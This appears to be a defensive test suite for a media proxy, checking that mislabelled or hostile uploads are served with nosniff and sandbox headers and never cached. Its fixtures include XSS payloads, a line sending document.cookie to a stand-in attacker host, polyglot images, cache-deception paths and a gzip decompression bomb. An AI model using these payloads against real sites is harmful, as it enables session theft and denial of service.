import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { countBadInputs } from '../support/bad-inputs.ts';
import { type Canary, startCanary } from '../support/canary.ts';
import { getRaw } from '../support/raw-http.ts';

const sample = (name: string) => readFileSync(new URL(`../../sample/media/${name}`, import.meta.url));
const [jpeg, png, gif, pdf] = [
  'photos/lake.jpg',
  'graphics/badge.png',
  'graphics/spinner.gif',
  'documents/guide.pdf',
].map(sample) as [Buffer, Buffer, Buffer, Buffer];
const html = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const script = Buffer.from('fetch("//evil.example/?" + document.cookie);\n'.repeat(20));
const executable = Buffer.concat([
  Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0', 'latin1'),
  Buffer.alloc(200),
]);
const archive = Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'), Buffer.alloc(200, 1)]);

let canary: Canary;

beforeAll(async () => {
  canary = await startCanary([
    { prefix: '/images/', allow: { types: ['image/*', 'video/*', 'audio/*', 'application/pdf'] } },
    { prefix: '/stream/', warm: 'stream', allow: { types: ['image/*', 'text/*', 'application/*', 'multipart/*'] } },
  ]);
});

afterAll(async () => {
  await canary?.[Symbol.asyncDispose]();
});

type LogEvent = 'stored' | 'not-stored';

/** Asks for the file once and waits for what the migration made of it. */
async function migrate(prefix: string, name: string) {
  const first = await getRaw(canary.proxy.delivery, `${prefix}${name}`);
  const line = await canary.proxy.logged(({ event, asset }) => {
    const { mapping, path } = (asset ?? {}) as { mapping?: string; path?: string };
    return (event === 'stored' || event === 'not-stored') && mapping === prefix && path === name;
  });
  return { first, outcome: line.event as LogEvent, reason: line.reason };
}

const lies: readonly (readonly [string, Buffer, string])[] = [
  ['HTML as JPEG', html, 'image/jpeg'],
  ['HTML behind white space as PNG', Buffer.concat([Buffer.from('\n\t  '), html]), 'image/png'],
  ['HTML behind a comment as GIF', Buffer.concat([Buffer.from('<!-- GIF89a -->'), html]), 'image/gif'],
  ['HTML in other case as WebP', Buffer.from('<HTML><BODY ONLOAD=alert(1)>'), 'image/webp'],
  ['HTML as a video', html, 'video/mp4'],
  ['HTML as PDF', html, 'application/pdf'],
  ['a script as PNG', script, 'image/png'],
  ['a script as a video', script, 'video/mp4'],
  ['an executable as JPEG', executable, 'image/jpeg'],
  ['an archive as GIF', archive, 'image/gif'],
  ['a PDF as PNG', pdf, 'image/png'],
  ['a PDF as a video', pdf, 'video/mp4'],
  ['a picture as a video', png, 'video/mp4'],
  ['nothing as JPEG', Buffer.alloc(0), 'image/jpeg'],
  ['no XML as SVG', script, 'image/svg+xml'],
  ['HTML as HTML', html, 'text/html'],
  ['a script as a script', script, 'text/javascript'],
  ['JPEG with an impossible type', jpeg, 'image'],
  ['an archive as itself', archive, 'application/zip'],
];

test.for(lies)(
  '%s is given to the client as the origin sent it, sniffed by nobody, and never stored',
  async ([name, body, type], context) => {
    const file = `${name.replaceAll(' ', '-')}.jpg`;
    canary.origin.put(`/base/${file}`, body, { type });
    const { first, outcome, reason } = await migrate('/images/', file);
    expect(outcome).toBe('not-stored');
    expect(reason).toBe('wrong-type');
    expect(first).toMatchObject({
      status: 200,
      headers: { 'x-content-type-options': 'nosniff', 'content-type': type },
    });
    countBadInputs(context, 1);
  },
);

test('a page that is asked for under the name of a picture is not stored, nor made for the visitor who asks', async (context) => {
  const names = ['account.php/x.css', 'account;x.css', 'account,x.jpg', 'account%3Fx.css', 'account%23x.jpg'];
  const before = canary.origin.requests.length;
  for (const name of names) {
    canary.origin.put(`/base/${name}`, html, { type: 'text/html', headers: { 'cache-control': 'public, max-age=60' } });
    const cookie = 'Cookie: session=of-a-visitor';
    expect((await getRaw(canary.proxy.delivery, `/images/${name}`, cookie)).headers['content-type']).toBe('text/html');
    expect(await migrate('/images/', name)).toMatchObject({ outcome: 'not-stored', reason: 'wrong-type' });
  }
  for (const name of ['account%00.css', 'account%0a.css', 'account%2fx.css', 'x/..%2faccount.css']) {
    expect((await getRaw(canary.proxy.delivery, `/images/${name}`)).status, name).toBe(400);
  }
  const asked = canary.origin.requests.slice(before);
  expect(asked.length).toBeGreaterThanOrEqual(names.length);
  for (const { headers } of asked) expect(headers).not.toHaveProperty('cookie');
  countBadInputs(context, names.length + 4);
});

test('of several types the one that browsers go by is judged: HTML is not stored as the picture it also claims to be', async (context) => {
  canary.origin.put('/base/two-types.gif', Buffer.concat([gif, html]), { type: 'image/gif, text/html' });
  const { first, outcome, reason } = await migrate('/images/', 'two-types.gif');
  expect({ outcome, reason }).toEqual({ outcome: 'not-stored', reason: 'wrong-type' });
  expect(first.headers['content-type']).toBe('text/html');
  countBadInputs(context, 1);
});

test('a picture that is also a script stays a picture: its type is the origin’s, and nobody may sniff', async (context) => {
  const polyglots = [
    ['gif', Buffer.concat([gif, Buffer.from('/*'), html, Buffer.from('*/')]), 'image/gif'],
    ['jpg', Buffer.concat([jpeg, html]), 'image/jpeg'],
    ['png', Buffer.concat([png, archive]), 'image/png'],
  ] as const;
  for (const [extension, body, type] of polyglots) {
    canary.origin.put(`/base/polyglot.${extension}`, body, { type });
    await migrate('/stream/', `polyglot.${extension}`);
    for (const answer of [0, 1].map(() => getRaw(canary.proxy.delivery, `/stream/polyglot.${extension}`))) {
      expect((await answer).headers).toMatchObject({ 'content-type': type, 'x-content-type-options': 'nosniff' });
    }
  }
  countBadInputs(context, polyglots.length);
});

describe.each([
  ['SVG', 'image/svg+xml', svg, undefined],
  ['SVG with parameters', 'IMAGE/SVG+XML; charset=utf-8', svg, undefined],
  ['HTML', 'text/html; charset=utf-8', html, 'attachment'],
  ['XHTML', 'application/xhtml+xml', html, 'attachment'],
  ['XML', 'text/xml', svg, 'attachment'],
  ['a feed', 'application/rss+xml', svg, 'attachment'],
  ['a page archive', 'multipart/related', html, 'attachment'],
  ['HTML behind a type of pictures', 'image/gif, text/html', Buffer.concat([gif, html]), 'attachment'],
  ['HTML behind a quote', 'image/gif;a=",text/html;b="', Buffer.concat([gif, html]), 'attachment'],
])('%s', (name, type, body, disposition) => {
  test('runs no script on the site’s host, from the origin and from the copy', async (context) => {
    const file = `document-${name.replaceAll(' ', '-')}`;
    canary.origin.put(`/base/${file}`, body, { type });
    const { first } = await migrate('/stream/', file);
    for (const { headers } of [first, await getRaw(canary.proxy.delivery, `/stream/${file}`)]) {
      expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*; sandbox$/);
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['content-disposition']).toBe(disposition);
    }
    countBadInputs(context, 1);
  });
});

test('what is no document gets no sandbox, and a disposition of the origin’s own stands', async () => {
  canary.origin.put('/base/plain.jpg', jpeg);
  canary.origin.put('/base/guide.pdf', pdf, { type: 'application/pdf' });
  canary.origin.put('/base/page.html', html, {
    type: 'text/html',
    headers: { 'content-disposition': 'inline; filename="a"' },
  });
  for (const file of ['plain.jpg', 'guide.pdf']) {
    const { headers } = await getRaw(canary.proxy.delivery, `/stream/${file}`);
    expect(headers).not.toHaveProperty('content-security-policy');
    expect(headers).not.toHaveProperty('content-disposition');
  }
  const page = await getRaw(canary.proxy.delivery, '/stream/page.html');
  expect(page.headers).toMatchObject({ 'content-disposition': 'inline; filename="a"' });
  expect(page.headers['content-security-policy']).toMatch(/sandbox$/);
});

test('every answer forbids sniffing, errors and refusals too', async () => {
  for (const target of ['/images/none.jpg', '/nowhere', '/images/../a', '/images/', '/images/%00']) {
    expect((await getRaw(canary.proxy.delivery, target)).headers['x-content-type-options'], target).toBe('nosniff');
  }
});

test('a decompression bomb is never blown up: its bytes go through as they came, and are not stored', async (context) => {
  const bomb = gzipSync(Buffer.alloc(100_000_000));
  canary.origin.put('/base/bomb.png', bomb, { type: 'image/png', headers: { 'content-encoding': 'gzip' } });
  const answer = await getRaw(canary.proxy.delivery, '/images/bomb.png');
  expect(answer).toMatchObject({ status: 200, headers: { 'content-encoding': 'gzip' } });
  expect(Buffer.from(answer.text.slice(answer.text.indexOf('\r\n\r\n') + 4), 'latin1').equals(bomb)).toBe(true);
  const { outcome } = await migrate('/images/', 'bomb.png');
  expect(outcome).toBe('not-stored');
  countBadInputs(context, 1);
});
